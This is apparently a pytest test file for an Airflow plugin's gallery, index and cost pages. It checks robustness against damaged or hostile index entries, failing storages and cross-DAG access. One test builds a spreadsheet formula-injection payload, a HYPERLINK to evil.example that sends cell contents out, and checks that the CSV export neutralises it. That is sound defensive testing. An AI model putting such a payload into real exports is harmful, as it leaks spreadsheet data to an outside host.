"""Indexes and ledgers that are damaged, foreign or hostile, and storages that fail: each page is shown all the same."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import threading
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING, Any

import httpx
import pytest
from fsspec.implementations.memory import MemoryFileSystem
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from airflow_provider_apimart.api.dollars import written_dollars
from airflow_provider_apimart.durable.folder import Folder
from airflow_provider_apimart.page_index.entry import DaySpending, IndexEntry, Kind, State
from airflow_provider_apimart.page_index.writing import IndexFile
from airflow_provider_apimart.plugin import gallery as gallery_module
from airflow_provider_apimart.plugin import index as index_module
from airflow_provider_apimart.plugin import ledgers as ledgers_module
from airflow_provider_apimart.plugin import thumbnails
from airflow_provider_apimart.plugin.index import Index
from airflow_provider_apimart.plugin.items import item_of
from airflow_provider_apimart.plugin.ledgers import Ledgers
from tests.object_storage import attach_anew
from tests.page import content
from tests.page.content import ledger_name
from tests.parsed_page import ParsedPage

pytestmark = pytest.mark.slow

if TYPE_CHECKING:
    from fastapi import FastAPI
    from fastapi.testclient import TestClient

MONTH = "2026-11"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
TEXTS = st.text(st.characters(codec=None), max_size=8) | st.sampled_from(
    ["\ud800", "\0", "=1+1", "2026-11-26T10:00:00Z"]
)
NUMBERS = st.integers() | st.floats() | st.sampled_from([10**250, -1e308, 1e308, 10**18, -5, 2**63])
VALUES = st.recursive(
    st.none() | st.booleans() | NUMBERS | TEXTS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS, inner, max_size=3),
    max_leaves=8,
)


def fields(*names: str) -> st.SearchStrategy[dict[str, Any]]:
    """Return objects of which some fields hold anything."""
    return st.fixed_dictionaries({}, optional=dict.fromkeys(names, VALUES))


FILES = fields("uri", "media_type", "bytes", "sha256", "generation_id")
LINES = fields(
    *("position", "status", "generation_id", "modality", "model", "prompt", "reason", "cost", "submitted"),
    *("completed", "saved", "saved_cost", "reused", "requested", "result", "request", "submission"),
).flatmap(
    lambda line: st.fixed_dictionaries(
        {},
        optional={
            "files": st.lists(FILES, max_size=2),
            "outputs": st.lists(fields("url", "expires_at"), max_size=2),
            "earlier": st.lists(fields("generation_id", "status", "cost"), max_size=2),
            "quote": fields("cost"),
        },
    ).map(lambda more: line | more)
)
ENTRIES = fields(
    *("version", "map_index", "task_try", "state", "began", "updated", "destination", "in_flight", "ends_at", "cost"),
    *("quoted", "reason"),
).flatmap(
    lambda entry: st.fixed_dictionaries(
        {},
        optional={
            "counts": st.dictionaries(st.sampled_from(["items", "completed", "failed", "x", "unsaved"]), VALUES),
            "spending": st.lists(
                fields("model", "generations", "cost", "quoted", "reused", "saved").map(
                    lambda row: row | {"day": f"{datetime.now(UTC):%Y-%m-%d}"}
                ),
                max_size=2,
            ),
            "files": st.lists(FILES, max_size=2),
        },
    ).map(lambda more: entry | more)
)


def put(place: Path, name: str, **said: Any) -> None:
    """Write a file of the index as anyone might."""
    folder = place / "index" / MONTH
    folder.mkdir(parents=True, exist_ok=True)
    named = {"kind": "batch", "dag_id": "d", "task_id": "t", "run_id": "r", "state": "finished"}
    (folder / f"{name}.json").write_text(json.dumps(named | {"began": datetime.now(UTC).isoformat()} | said))


def key_of(item_id: str) -> str:
    """Return what stands for an item in addresses."""
    item = item_of({"id": item_id})
    assert item
    return item.key


@pytest.mark.long
@given(ENTRIES, LINES, st.sampled_from(list(Kind)))
@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
def test_every_page_is_shown_for_any_entry_and_ledger(
    place: Path, viewer: TestClient, tmp_path: Path, entry: dict[str, Any], line: dict[str, Any], kind: Kind
) -> None:
    ledger = tmp_path / ledger_name("d", "t", "r")
    ledger.write_text(json.dumps(line | {"id": "a"}) + "\n")
    named = {"kind": kind.value, "ledger": ledger.as_uri()} | (
        {} if kind is Kind.BATCH else {"item": {**line, "id": "a"}}
    )
    put(place, "b", **{"map_index": -1, **entry, **named})
    pages = ["/", "/gallery", "/cost", "/cost.csv", "/live?work=b", "/gallery?sort=cost"]
    for path in [*pages, *(f"/{each}" for each in _items(viewer))]:
        reply = viewer.get(path, headers={"Accept": "text/html"})
        assert reply.status_code == 200, path


def _items(browser: TestClient) -> set[str]:
    page = ParsedPage(browser.get("/gallery").text)
    return {each.removeprefix("/apimart/").partition("?")[0] for each in page.values("a", "href") if "/items/" in each}


@pytest.mark.parametrize("scheme", ["gs", "abfs", "hdfs", "s3"])
def test_a_storage_that_the_api_server_lacks_hides_nothing_else(
    place: Path, viewer: TestClient, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, scheme: str
) -> None:
    """Workers have its provider and its connection; the API server has not."""
    if scheme == "s3":
        attach_anew("s3", Broken(OSError("no route to host")))
    content.large_batch("here", tmp_path, 2)
    there = f"{scheme}://bucket/results"
    put(place, "there", ledger=f"{there}/{ledger_name('d', 't', 'r')}", destination=there)
    saved = {"id": "a", "status": "completed", "files": [{"uri": f"{there}/a.png", "media_type": "image/png"}]}
    put(place, "one", kind="generation", task_id="one", destination=there, item=saved)
    gallery = ParsedPage(viewer.get("/gallery").text)
    assert "3 items" in gallery.text
    told = "The ledger of d, t, r can't be read now (OSError)" if scheme == "s3" else f"can't open {scheme}://bucket."
    assert told in gallery.text
    for kind in ("files", "thumbnails"):
        assert viewer.get(f"/{kind}/one/{key_of('a')}/0").status_code == 503
    assert viewer.get(f"/items/one/{key_of('a')}").status_code == 200
    assert viewer.get(f"/items/there/{key_of('a')}", headers={"Accept": "text/html"}).status_code == 503


@pytest.mark.parametrize("path", ["/", "/gallery", "/cost", "/cost.csv", "/live"])
def test_an_index_that_cannot_be_read_is_reported_as_such(
    viewer: TestClient, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, path: str
) -> None:
    monkeypatch.setenv("AIRFLOW__APIMART__LEDGER_PATH", "gs://bucket/apimart")
    reply = viewer.get(path, headers={"Accept": "text/html"})
    assert reply.status_code == 503
    assert "The index at [apimart] ledger_path can&#39;t be read now" in reply.text
    assert "The index at [apimart] ledger_path" in caplog.text


class Broken(MemoryFileSystem):
    """A storage whose every call raises an error."""

    cachable = False

    def __init__(self, error: Exception) -> None:
        super().__init__()
        self.error = error
        self.calls = 0

    def info(self, *args: Any, **kwargs: Any) -> Any:
        """Raise the error."""
        self.calls += 1
        raise self.error

    open = cat_file = ls = info


class Hanging(Broken):
    """A storage that says nothing until an event, and fails then."""

    def __init__(self, answers: threading.Event) -> None:
        super().__init__(TimeoutError())
        self._answers = answers

    def info(self, *args: Any, **kwargs: Any) -> Any:
        """Wait for the event and raise the error."""
        self._answers.wait(60)
        raise self.error


class OddError(Exception):
    """An error of a storage library that can't even be written."""

    def __str__(self) -> str:
        return ""


@pytest.mark.parametrize("error", [OddError(), PermissionError("no"), TimeoutError(), KeyError("size"), RuntimeError()])
def test_a_storage_that_has_failed_is_not_asked_again_at_once(place: Path, error: Exception) -> None:
    storage, now = Broken(error), 0.0
    attach_anew("s3", storage)
    ledgers, entry = Ledgers(clock=lambda: now), _remote_entry("d")
    for _ in range(5):
        assert "can't be read now" in (ledgers.items(entry).problem or "")
    assert storage.calls == 1
    now = 60.0
    ledgers.items(entry)
    assert storage.calls == 2


def _remote_entry(dag_id: str) -> IndexEntry:
    ledger = f"s3://bucket/{ledger_name(dag_id, 't', 'r')}"
    return IndexEntry(
        dag_id, Kind.BATCH, dag_id, "t", "r", state=State.FINISHED, ledger=ledger, destination="s3://bucket"
    )


def test_a_storage_that_hangs_holds_up_no_other_batch(
    place: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ledgers_module, "_WAIT_SECONDS", 0.2)
    answers = threading.Event()
    attach_anew("s3", Hanging(answers))
    ledgers, hanging = Ledgers(), _remote_entry("hangs")
    # Whatever the hash of the name is, another one than that of the batch that hangs.
    monkeypatch.setattr(ledgers_module, "_READ_AT_ONCE", 64)
    waiting = threading.Thread(target=ledgers.items, args=(hanging,))
    waiting.start()
    try:
        other = next(
            entry
            for number in range(100)
            if hash((entry := content.large_batch(f"d{number}", tmp_path / str(number), 2)).name) % 64
            != hash(hanging.name) % 64
        )
        assert len(ledgers.items(other).all) == 2
        began = time.monotonic()
        assert "is being read" in (ledgers.items(hanging).problem or "")
        assert time.monotonic() - began < 30
    finally:
        answers.set()
        waiting.join(60)


@pytest.mark.parametrize("other", [("secret", "t", "r"), ("d", "other", "r"), ("d", "t", "other")])
def test_an_entry_leads_to_no_other_tasks_ledger(
    place: Path, viewer: TestClient, tmp_path: Path, other: tuple[str, str, str]
) -> None:
    """The ledgers of two DAGs may be in one directory, and who may see the one may not see the other."""
    secret = tmp_path / ledger_name(*other)
    secret.write_text(json.dumps({"id": "secret-item", "prompt": "a secret"}))
    put(place, "b", ledger=secret.as_uri(), destination=tmp_path.as_uri())
    page = viewer.get("/gallery").text
    assert "secret-item" not in page
    assert "has the name of another task" in page
    assert viewer.get(f"/items/b/{key_of('secret-item')}").status_code in (404, 503)


def test_an_entry_of_a_mapped_task_leads_to_its_ledger(place: Path, viewer: TestClient, tmp_path: Path) -> None:
    from airflow_provider_apimart.durable.task_identity import TaskIdentity, file_name_of

    name = file_name_of(TaskIdentity("d", "r", "t", 3, 0))
    (tmp_path / f"{name}.ledger.jsonl").write_text(json.dumps({"id": "third"}))
    put(place, name, map_index=3, ledger=(tmp_path / f"{name}.ledger.jsonl").as_uri())
    assert "third" in viewer.get("/gallery").text


def test_foreign_directories_and_files_hide_no_entry(place: Path, viewer: TestClient) -> None:
    put(place, "b", counts={"completed": 7})
    for number in range(40):
        (place / "index" / f"x{number}").mkdir()
    (place / "index" / MONTH / "directory.json").mkdir()
    (place / "index" / "2099-01").write_text("a file")
    (place / "index" / MONTH / "notes.txt").write_text("a note")
    assert "7</b> of 7 done" in viewer.get("/").text


@pytest.mark.parametrize("damage", ["", "{", "[]", '{"kind": "video"}', "\udcff", "9" * 100])
def test_what_is_missing_because_of_a_damaged_entry_is_reported(place: Path, viewer: TestClient, damage: str) -> None:
    put(place, "b", counts={"completed": 7})
    (place / "index" / MONTH / "damaged.json").write_bytes(damage.encode("utf-8", "surrogateescape"))
    for path in ("/", "/gallery", "/cost"):
        page = ParsedPage(viewer.get(path).text)
        assert "1 file of the index can't be read. What it describes is missing" in page.text, path


def test_an_entry_that_cannot_be_read_for_a_moment_stays(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    index = Index(clock=iter(range(0, 10**9, 60)).__next__)
    put(place, "b", counts={"completed": 7})
    assert list(index.entries()) == ["b"]
    put(place, "b", counts={"completed": 8})
    monkeypatch.setattr(Folder, "read", _raises(TimeoutError()))
    assert list(index.entries()) == ["b"]
    monkeypatch.undo()
    monkeypatch.setenv("AIRFLOW__APIMART__LEDGER_PATH", str(place))
    assert index.entries()["b"].entry.counts == {"completed": 8}


def _raises(error: Exception) -> Callable[..., Any]:
    def fail(*args: Any) -> Any:
        raise error

    return fail


def test_an_index_with_more_entries_than_are_read_says_so(
    place: Path, viewer: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(index_module, "_MOST_ENTRIES", 3)
    for number in range(3):
        put(place, f"b{number}", updated="2026-11-20T10:00:00+00:00")
    assert "are shown and summed up" not in viewer.get("/cost").text
    put(place, "b3", updated="2026-11-20T10:00:00+00:00")
    for path in ("/", "/gallery", "/cost"):
        assert (
            "Only the latest 3 entries are shown and summed up, those written since 2026-11-20" in viewer.get(path).text
        )


def test_a_huge_entry_is_not_read(place: Path, viewer: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(index_module, "_MOST_BYTES", 1000)
    put(place, "small")
    put(place, "huge", reason="x" * 2000)
    page = viewer.get("/").text
    assert page.count('<li class="work"') == 1
    assert "1 file of the index" in page


def test_a_huge_ledger_is_shown_in_part(
    place: Path, viewer: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ledgers_module, "_MOST_LINES", 5)
    content.large_batch("d", tmp_path, 6)
    page = ParsedPage(viewer.get("/gallery").text)
    assert "Only the first 5 lines of the ledger are shown" in page.text
    assert "5 items" in page.text


@pytest.mark.parametrize("status", ["failed", "refused", "moderated", "not_submitted"])
@pytest.mark.parametrize("generation_id", [None, "g1"])
def test_a_failed_try_that_a_later_one_made_good_is_not_missing(
    place: Path, viewer: TestClient, status: str, generation_id: str | None
) -> None:
    first = {"id": "first", "generation_id": generation_id, "status": status, "reason": "HTTP 503"}
    put(place, "x", kind="generation", item=first, updated="2026-11-26T10:00:00+00:00")
    assert "incomplete" in viewer.get("/").text
    second = {"id": "second", "generation_id": "g2", "status": "completed", "cost": 0.05}
    # The clock of the other worker is behind.
    put(place, "x.2", kind="generation", item=second, updated="2026-11-26T09:59:00+00:00", task_try=2)
    page = ParsedPage(viewer.get("/").text)
    assert "1 of 1 done" in page.text
    assert "incomplete" not in page.text
    assert "1 item" in ParsedPage(viewer.get("/gallery").text).text
    # Another map index is another piece of work.
    put(place, "x.3", kind="generation", map_index=1, item=first, updated="2026-11-26T10:00:00+00:00")
    assert "1 of 2 done" in ParsedPage(viewer.get("/").text).text


@pytest.mark.parametrize(
    ("status", "cost"), [("unknown", None), ("running", None), ("completed", 0.05), ("failed", 0.05)]
)
def test_what_was_or_may_have_been_paid_stays(place: Path, viewer: TestClient, status: str, cost: float | None) -> None:
    first = {"id": "first", "generation_id": "g1", "status": status, "cost": cost}
    put(place, "x", kind="generation", item=first, updated="2026-11-26T10:00:00+00:00")
    second = {"id": "second", "generation_id": "g2", "status": "completed"}
    put(place, "x.2", kind="generation", item=second, updated="2026-11-26T10:05:00+00:00")
    assert "2 items" in ParsedPage(viewer.get("/gallery").text).text


def test_amounts_of_earlier_generations_and_numbers_of_a_request_are_written_as_everywhere(
    place: Path, viewer: TestClient
) -> None:
    item = {
        "id": "a",
        "status": "completed",
        "request": {"strength": 0.8, "\ud800": "\udfff"},
        "earlier": [{"generation_id": "g0", "status": "failed", "cost": 0.1}],
    }
    put(place, "x", kind="generation", item=item)
    page = ParsedPage(viewer.get(f"/items/x/{key_of('a')}").text)
    assert "$0.10" in page.text
    assert "0.8" in page.text
    assert '"0.8"' not in page.text


@pytest.mark.parametrize("kind", ["files", "thumbnails"])
def test_a_picture_asks_for_the_rights_of_its_dag_only(
    place: Path, viewer: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """A page has dozens of pictures, and some auth managers ask another service about each DAG."""
    (tmp_path / "a.png").write_bytes(PNG)
    for number in range(20):
        files = [{"uri": str(tmp_path / "a.png"), "media_type": "image/png"}]
        item = {"id": "a", "status": "completed", "files": files}
        put(place, f"e{number}", kind="generation", dag_id=f"d{number}", destination=str(tmp_path), item=item)
    from airflow.api_fastapi.app import get_auth_manager

    asked: list[str] = []
    manager = type(get_auth_manager())
    decide = manager.is_authorized_dag

    def counted(self: Any, **kwargs: Any) -> bool:
        asked.append(kwargs["details"].id)
        return bool(decide(self, **kwargs))

    monkeypatch.setattr(manager, "is_authorized_dag", counted)
    assert viewer.get(f"/{kind}/e7/{key_of('a')}/0").status_code == 200
    assert asked == ["d7"]
    assert viewer.get(f"/{kind}/e99/{key_of('a')}/0").status_code == 404
    assert asked == ["d7"]


@pytest.mark.parametrize(("where", "status"), [("another task's", 200), ("nobody's", 404), ("beside", 404)])
def test_a_ledger_reuses_only_what_a_task_of_the_index_has_saved(
    place: Path, viewer: TestClient, tmp_path: Path, where: str, status: int
) -> None:
    """Who can write to a directory of results can write a ledger there, but not to the index."""
    folder = tmp_path / ("saved" if where == "another task's" else "saved-not")
    (folder / "deep").mkdir(parents=True)
    (folder / "deep" / "a.png").write_bytes(PNG)
    if where != "nobody's":
        put(place, "other", dag_id="other", destination=(tmp_path / "saved").as_uri())
    saved = [{"uri": (folder / "deep" / "a.png").as_uri(), "media_type": "image/png"}]
    ledger = tmp_path / ledger_name("d", "t", "r")
    ledger.write_text(json.dumps({"id": "a", "status": "reused", "reused": "g", "files": saved}))
    put(place, "b", ledger=ledger.as_uri(), destination=(tmp_path / "own").as_uri())
    assert viewer.get(f"/files/b/{key_of('a')}/0").status_code == status


def test_a_slow_storage_blocks_neither_the_event_loop_nor_other_readers(
    place: Path, host: FastAPI, monkeypatch: pytest.MonkeyPatch
) -> None:
    from airflow.api_fastapi.app import get_auth_manager

    from tests.page.host import simple_user

    put(place, "b", counts={"completed": 7})
    answers = threading.Event()
    listing = index_module._listing

    async def read() -> None:
        token = get_auth_manager().generate_jwt(simple_user("viewer", "VIEWER"))
        headers = {"Authorization": f"Bearer {token}"}
        transport = httpx.ASGITransport(app=host)
        async with httpx.AsyncClient(
            transport=transport, base_url="http://testserver/apimart", headers=headers
        ) as browser:
            assert "7</b> of 7 done" in (await browser.get("/")).text
            monkeypatch.setattr(index_module, "_listing", lambda root: answers.wait(60) and listing(root))
            slow = asyncio.create_task(browser.get("/"))
            await asyncio.sleep(0.2)
            for path in ("/static/page.css", "/", "/cost"):
                async with asyncio.timeout(20):
                    assert (await browser.get(path)).status_code == 200
            assert not slow.done()
            monkeypatch.setattr(index_module, "_SLOW_SECONDS", 0.0)
            assert "The storage of the index hasn&#39;t answered for" in (await browser.get("/")).text
            answers.set()
            assert (await slow).status_code == 200

    try:
        asyncio.run(read())
    finally:
        answers.set()


def test_listings_take_a_tenth_of_the_time_at_most(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(index_module, "_FRESH_FACTOR", 10)
    now = [0.0]
    index = Index(clock=lambda: now[0])
    listing = index_module._listing

    def slow(root: Any) -> Any:
        now[0] += 3.0
        return listing(root)

    monkeypatch.setattr(index_module, "_listing", slow)
    for _ in range(100):
        index.entries()
        now[0] += 1.0
    assert now[0] <= 100 + 4 * 3.0


def test_a_gallery_of_slow_storages_comes_in_time(
    place: Path, viewer: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(gallery_module, "_LONGEST_SECONDS", 0.0)
    for number in range(3):
        content.large_batch(f"d{number}", tmp_path / str(number), 2)
    page = ParsedPage(viewer.get("/gallery").text)
    assert "2 items; 2 older batches aren't searched" in page.text


def test_a_page_beyond_the_last_is_the_last(place: Path, viewer: TestClient, tmp_path: Path) -> None:
    content.large_batch("d", tmp_path, 61)
    assert "product-0" in ParsedPage(viewer.get("/gallery?page=99&sort=newest").text).text
    assert "1 of 1 done" not in viewer.get("/?page=99").text
    assert "61</b> of 61 done" in viewer.get("/?page=99").text


def test_tomorrow_counts_as_today(place: Path, viewer: TestClient) -> None:
    """The clock of a worker, or APIMart's, is ahead of this one at the border of a day."""
    tomorrow = f"{datetime.now(UTC) + timedelta(days=1):%Y-%m-%d}"
    put(place, "b", spending=[{"day": tomorrow, "model": "m", "cost": 0.07, "generations": 1}])
    page = viewer.get("/cost?days=1")
    (row,) = csv.DictReader(io.StringIO(viewer.get("/cost.csv?days=1").text))
    assert (row["day"], row["cost"]) == (f"{datetime.now(UTC):%Y-%m-%d}", "0.07")
    assert 'class="series-0" x=' in page.text


@pytest.mark.parametrize("letter", list("=+-@\uff1d\uff0b\uff0d\uff20"))
def test_no_column_of_the_csv_is_a_formula(place: Path, viewer: TestClient, letter: str) -> None:
    evil = f'{letter}HYPERLINK("http://evil.example?"&A1,"x")'
    put(
        place,
        "b",
        dag_id=evil,
        task_id=evil,
        spending=[{"day": f"{datetime.now(UTC):%Y-%m-%d}", "model": evil, "cost": 1}],
    )
    (row,) = csv.DictReader(io.StringIO(viewer.get("/cost.csv").text))
    assert [row[name] for name in ("dag_id", "task_id", "model")] == [f"'{evil}"] * 3


AMOUNTS = st.none() | st.decimals(0, 10**6, places=9)
ROWS = st.lists(
    st.tuples(st.integers(0, 3), st.sampled_from("ab"), st.sampled_from(["m", ""]), AMOUNTS, AMOUNTS, AMOUNTS),
    max_size=12,
)


@given(ROWS)
@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
def test_csv_and_tables_have_the_same_exact_sums(
    place: Path, viewer: TestClient, rows: list[tuple[int, str, str, Any, Any, Any]]
) -> None:
    """Entries as tasks write them, through JSON and back."""
    spending = tuple(
        DaySpending(
            f"{datetime.now(UTC) - timedelta(days=ago):%Y-%m-%d}",
            model,
            generations=1,
            cost=cost or Decimal(0),
            quoted=quoted or Decimal(0),
            reused=1,
            saved=saved or Decimal(0),
        )
        for ago, _, model, cost, quoted, saved in rows
    )
    dags = [dag for _, dag, *_ in rows]
    for dag in "ab":
        own = tuple(row for row, of in zip(spending, dags, strict=True) if of == dag)
        IndexFile().write(IndexEntry(dag, Kind.BATCH, dag, "t", "r", state=State.FINISHED, spending=own))
    written = list(csv.DictReader(io.StringIO(viewer.get("/cost.csv?days=7").text)))
    page = ParsedPage(viewer.get("/cost?days=7").text).text
    for name in ("cost", "quoted", "saved"):
        total = sum((Decimal(row[name]) for row in written), Decimal(0))
        assert total == sum((getattr(row, name) for row in spending), Decimal(0))
        assert written_dollars(total) in page
    assert sum(int(row["generations"]) for row in written) == len(rows)


def test_files_of_transfers_are_bounded(place: Path, viewer: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(index_module, "_MOST_FILES", 25)
    for number in range(4):
        generations = [f"g{number}-{each}" for each in range(10)]
        began = f"2026-11-{20 + number}T10:00:00+00:00"
        saved = [
            {"generation_id": each, "uri": f"file:///x/{each}.png", "media_type": "image/png"} for each in generations
        ]
        put(place, f"f{number}", kind="files", task_id="save", destination="file:///x", files=saved, began=began)
        item = {"id": "a", "generation_id": generations[0], "status": "completed", "prompt": f"fox {number}"}
        put(place, f"e{number}", kind="generation", run_id=f"r{number}", item=item)
    for _ in range(2):
        page = viewer.get("/gallery").text
        assert page.count("<img src=") == 2
        assert "Files that transfers saved until 2026-11-21 aren&#39;t shown: only 25 are" in page


def test_many_files_of_one_generation_take_no_time(place: Path, viewer: TestClient) -> None:
    saved = [
        {"generation_id": "g", "uri": f"file:///x/{each}.png", "media_type": "image/png"} for each in range(30_000)
    ]
    put(place, "f", kind="files", task_id="save", destination="file:///x", files=saved)
    put(place, "e", kind="generation", item={"id": "a", "generation_id": "g", "status": "completed", "prompt": "fox"})
    assert viewer.get("/").status_code == 200
    began = time.process_time()
    page = viewer.get("/gallery")
    assert "+29999" in page.text
    assert time.process_time() - began < 5


@pytest.mark.parametrize("path", ["/?state=running", "/gallery?status=failed", "/gallery?model=m1", "/cost?model=m1"])
@pytest.mark.parametrize("dag_id", ["", "d", "gone"])
def test_what_a_list_is_filtered_by_is_selected(
    place: Path, viewer: TestClient, monkeypatch: pytest.MonkeyPatch, path: str, dag_id: str
) -> None:
    """Also where nothing has it, and where it is beyond the options that are listed."""
    monkeypatch.setattr("airflow_provider_apimart.plugin.pages._MOST_OPTIONS", 1)
    put(place, "a", dag_id="a", counts={"completed": 1})
    put(place, "b", dag_id="d", counts={"completed": 1})
    page = ParsedPage(viewer.get(f"{path}&dag_id={dag_id}").text)
    selected = {attributes.get("value") for tag, attributes in page.elements if "selected" in attributes}
    assert path.partition("=")[2] in selected
    assert not dag_id or dag_id in selected


def test_a_task_that_has_not_begun_is_told_as_such(place: Path, viewer: TestClient) -> None:
    put(place, "b", counts={"completed": 1})
    told = "Nothing is known of this task yet"
    assert told in viewer.get("/gallery?dag_id=d&task_id=t&run_id=new").text
    assert told not in viewer.get("/gallery?dag_id=d&task_id=t&run_id=new&q=fox").text
    assert "Nothing matches" in viewer.get("/gallery?q=fox").text


def test_files_in_a_storage_that_hangs_leave_threads_for_the_pages(
    place: Path, host: FastAPI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from airflow.api_fastapi.app import get_auth_manager

    from tests.page.host import simple_user

    answers = threading.Event()
    attach_anew("s3", Hanging(answers))
    files = [{"uri": f"s3://bucket/{number}.png", "media_type": "image/png"} for number in range(20)]
    put(
        place,
        "b",
        kind="generation",
        destination="s3://bucket",
        item={"id": "a", "status": "completed", "files": files},
    )

    async def read() -> None:
        token = get_auth_manager().generate_jwt(simple_user("viewer", "VIEWER"))
        headers = {"Authorization": f"Bearer {token}"}
        transport = httpx.ASGITransport(app=host)
        async with httpx.AsyncClient(
            transport=transport, base_url="http://testserver/apimart", headers=headers
        ) as browser:
            paths = [f"/thumbnails/b/{key_of('a')}/{number}" for number in range(20)]
            asked = [asyncio.create_task(browser.get(path)) for path in paths]
            await asyncio.sleep(0.5)
            for path in ("/", "/gallery", "/cost"):
                async with asyncio.timeout(30):
                    assert (await browser.get(path)).status_code == 200
            assert not any(each.done() for each in asked)
            answers.set()
            assert {(await each).status_code for each in asked} == {503}

    try:
        asyncio.run(read())
    finally:
        answers.set()


def test_a_thumbnail_that_takes_long_holds_up_no_other(
    place: Path, viewer: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(thumbnails, "_WAIT_SECONDS", 0.1)
    Image.new("RGB", (900, 600)).save(tmp_path / "a.png")
    files = [{"uri": str(tmp_path / "a.png"), "media_type": "image/png"}]
    item = {"id": "a", "status": "completed", "files": files}
    put(place, "b", kind="generation", destination=str(tmp_path), item=item)
    with thumbnails._one_at_a_time:
        reply = viewer.get(f"/thumbnails/b/{key_of('a')}/0")
        assert (reply.status_code, reply.headers["content-type"]) == (200, "image/png")
    assert viewer.get(f"/thumbnails/b/{key_of('a')}/0").headers["content-type"] == "image/webp"
